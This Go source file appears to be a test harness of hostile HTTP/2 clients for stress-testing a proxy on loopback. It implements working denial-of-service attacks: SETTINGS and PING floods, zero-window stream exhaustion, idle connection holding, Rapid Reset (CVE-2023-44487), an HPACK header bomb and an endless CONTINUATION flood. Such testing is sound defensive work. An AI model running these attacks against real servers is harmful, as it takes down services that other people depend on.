// Package h2attack holds hostile HTTP/2 clients, one per attack of
// issue 15, built on a bare x/net/http2 Framer. Each runs against a
// proxy's h2c address until its context ends and returns what it managed.
// They are for testing proxies on loopback (proxy/e2e's attack tests and
// the h2attack command); never point them at a host you do not own.
package h2attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attack is one hostile client: Run opens conns connections to addr and
// attacks until ctx ends.
type Attack struct {
	Name string
	What string // one line, for tables
	Run  func(ctx context.Context, addr string, conns int) Result
}

// Result counts what an attack did.
type Result struct {
	Conns  int // connections opened
	Frames int // frames sent
	Closed int // connections the server closed on us
}

// Attacks lists every attack by name.
var Attacks = []Attack{
	{"settings", "SETTINGS frames from a client that never reads", func(ctx context.Context, a string, n int) Result {
		return flood(ctx, a, n, func(fr *http2.Framer) error { return fr.WriteSettings() })
	}},
	{"ping", "PING frames from a client that never reads", func(ctx context.Context, a string, n int) Result {
		return flood(ctx, a, n, func(fr *http2.Framer) error { return fr.WritePing(false, [8]byte{1}) })
	}},
	{"zero-window", "128 streams per connection each asking 64 KiB, stream window 0, never reading", ZeroWindow},
	{"idle", "connections that send the preface and SETTINGS, then nothing", Idle},
	{"rapid-reset", "HEADERS then RST_STREAM, repeated (CVE-2023-44487)", RapidReset},
	{"hpack-bomb", "a 4 KiB header in the HPACK table, then header blocks of 1-byte references to it", HPACKBomb},
	{"continuation", "HEADERS without END_HEADERS, then endless empty CONTINUATION frames", Continuation},
}

// Find returns the attack named name.
func Find(name string) (Attack, bool) {
	for _, a := range Attacks {
		if a.Name == name {
			return a, true
		}
	}
	return Attack{}, false
}

// conn is one attacking connection.
type conn struct {
	nc   net.Conn
	fr   *http2.Framer
	hbuf bytes.Buffer
	enc  *hpack.Encoder
}

func dial(ctx context.Context, addr string, settings ...http2.Setting) (*conn, error) {
	var d net.Dialer
	nc, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	c := &conn{nc: nc, fr: http2.NewFramer(nc, nc)}
	c.enc = hpack.NewEncoder(&c.hbuf)
	nc.SetWriteDeadline(time.Now().Add(5 * time.Second))
	if _, err := io.WriteString(nc, http2.ClientPreface); err != nil {
		nc.Close()
		return nil, err
	}
	if err := c.fr.WriteSettings(settings...); err != nil {
		nc.Close()
		return nil, err
	}
	go func() { <-ctx.Done(); nc.Close() }()
	return c, nil
}

// block HPACK-encodes a request for path plus extra fields.
func (c *conn) block(path string, extra ...hpack.HeaderField) []byte {
	c.hbuf.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: "localhost"}, {Name: ":path", Value: path},
		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	}, extra...) {
		c.enc.WriteField(f)
	}
	return append([]byte(nil), c.hbuf.Bytes()...)
}

// parallel runs f on n connections and sums their results.
func parallel(n int, f func(i int) Result) Result {
	var mu sync.Mutex
	var total Result
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			r := f(i)
			mu.Lock()
			total.Conns += r.Conns
			total.Frames += r.Frames
			total.Closed += r.Closed
			mu.Unlock()
		}()
	}
	wg.Wait()
	return total
}

// flood sends frames made by send on each connection as fast as the
// socket takes them, never reading; when the server closes the
// connection it opens another.
func flood(ctx context.Context, addr string, n int, send func(*http2.Framer) error) Result {
	return parallel(n, func(int) Result {
		var r Result
		for ctx.Err() == nil {
			c, err := dial(ctx, addr)
			if err != nil {
				time.Sleep(10 * time.Millisecond)
				continue
			}
			r.Conns++
			for ctx.Err() == nil {
				c.nc.SetWriteDeadline(time.Now().Add(time.Second))
				if err := send(c.fr); err != nil {
					var ne net.Error
					if errors.As(err, &ne) && ne.Timeout() {
						continue // the server stopped reading: keep pushing
					}
					r.Closed++
					break
				}
				r.Frames++
			}
			c.nc.Close()
		}
		return r
	})
}

// grpcRequest is a gRPC message (SimpleRequest{response_size: size}).
func grpcRequest(size int) []byte {
	msg := binary.AppendUvarint([]byte{0x10}, uint64(size))
	return append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(msg))), msg...)
}

// ZeroWindow opens streams asking for large responses with an initial
// stream window of 0 and never reads or opens a window.
func ZeroWindow(ctx context.Context, addr string, n int) Result {
	return parallel(n, func(int) Result {
		var r Result
		c, err := dial(ctx, addr, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return r
		}
		r.Conns++
		defer c.nc.Close()
		req := grpcRequest(64 << 10)
		for id := uint32(1); id < 2*128; id += 2 {
			c.nc.SetWriteDeadline(time.Now().Add(time.Second))
			if c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block("/grpc.testing.TestService/UnaryCall"), EndHeaders: true}) != nil ||
				c.fr.WriteData(id, true, req) != nil {
				r.Closed++
				return r
			}
			r.Frames += 2
		}
		<-ctx.Done()
		return r
	})
}

// Idle opens n connections that say nothing after their SETTINGS, and
// reopens those the server closes half a second later.
func Idle(ctx context.Context, addr string, n int) Result {
	return parallel(n, func(int) Result {
		var r Result
		for ctx.Err() == nil {
			c, err := dial(ctx, addr)
			if err != nil {
				time.Sleep(10 * time.Millisecond)
				continue
			}
			r.Conns++
			c.nc.SetReadDeadline(time.Time{})
			io.Copy(io.Discard, c.nc) // until the server or ctx closes it
			c.nc.Close()
			if ctx.Err() == nil {
				r.Closed++
				time.Sleep(500 * time.Millisecond)
			}
		}
		return r
	})
}

// RapidReset sends HEADERS and RST_STREAM pairs for EmptyCall, reading
// (and dropping) whatever comes back.
func RapidReset(ctx context.Context, addr string, n int) Result {
	return parallel(n, func(int) Result {
		var r Result
		for ctx.Err() == nil {
			c, err := dial(ctx, addr)
			if err != nil {
				time.Sleep(10 * time.Millisecond)
				continue
			}
			r.Conns++
			go io.Copy(io.Discard, c.nc)
			blk := c.block("/grpc.testing.TestService/EmptyCall")
			for id := uint32(1); ctx.Err() == nil && id < 1<<30; id += 2 {
				c.nc.SetWriteDeadline(time.Now().Add(time.Second))
				if c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: blk, EndHeaders: true}) != nil ||
					c.fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
					r.Closed++
					break
				}
				r.Frames += 2
			}
			c.nc.Close()
		}
		return r
	})
}

// HPACKBomb puts one 4 KiB header into the server's HPACK table, then
// sends header blocks that reference it a thousand times (1 byte each).
func HPACKBomb(ctx context.Context, addr string, n int) Result {
	return parallel(n, func(int) Result {
		var r Result
		for ctx.Err() == nil {
			c, err := dial(ctx, addr)
			if err != nil {
				time.Sleep(10 * time.Millisecond)
				continue
			}
			r.Conns++
			go io.Copy(io.Discard, c.nc)
			// The first block adds x-bomb to the table, where it is the
			// newest entry, index 62; the others repeat index 62 (0xbe)
			// a thousand times. Both use only static-table names
			// otherwise, so nothing else enters the table.
			c.hbuf.Reset()
			c.enc.WriteField(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 4000)})
			first := append(staticRequest("/grpc.testing.TestService/EmptyCall"), c.hbuf.Bytes()...)
			bomb := append(staticRequest("/grpc.testing.TestService/EmptyCall"), bytes.Repeat([]byte{0xbe}, 1000)...)
			blk := first
			for id := uint32(1); ctx.Err() == nil && id < 1<<30; id += 2 {
				c.nc.SetWriteDeadline(time.Now().Add(time.Second))
				if c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: blk, EndHeaders: true, EndStream: true}) != nil {
					r.Closed++
					break
				}
				blk = bomb
				r.Frames++
			}
			c.nc.Close()
		}
		return r
	})
}

// Continuation starts a header block and never ends it: empty
// CONTINUATION frames without END_HEADERS.
func Continuation(ctx context.Context, addr string, n int) Result {
	return parallel(n, func(int) Result {
		var r Result
		for ctx.Err() == nil {
			c, err := dial(ctx, addr)
			if err != nil {
				time.Sleep(10 * time.Millisecond)
				continue
			}
			r.Conns++
			go io.Copy(io.Discard, c.nc)
			c.nc.SetWriteDeadline(time.Now().Add(time.Second))
			err = c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.block("/grpc.testing.TestService/EmptyCall")})
			for err == nil && ctx.Err() == nil {
				c.nc.SetWriteDeadline(time.Now().Add(time.Second))
				err = c.fr.WriteContinuation(1, false, nil)
				r.Frames++
			}
			if ctx.Err() == nil {
				r.Closed++
			}
			c.nc.Close()
		}
		return r
	})
}

// staticRequest is a request header block that adds nothing to the HPACK
// table: :method POST (static 3), :scheme http (6), then :path and
// :authority as literals without indexing (RFC 7541 6.2.2).
func staticRequest(path string) []byte {
	b := []byte{0x83, 0x86, 0x04, byte(len(path))}
	b = append(b, path...)
	b = append(b, 0x01, byte(len("localhost")))
	return append(b, "localhost"...)
}
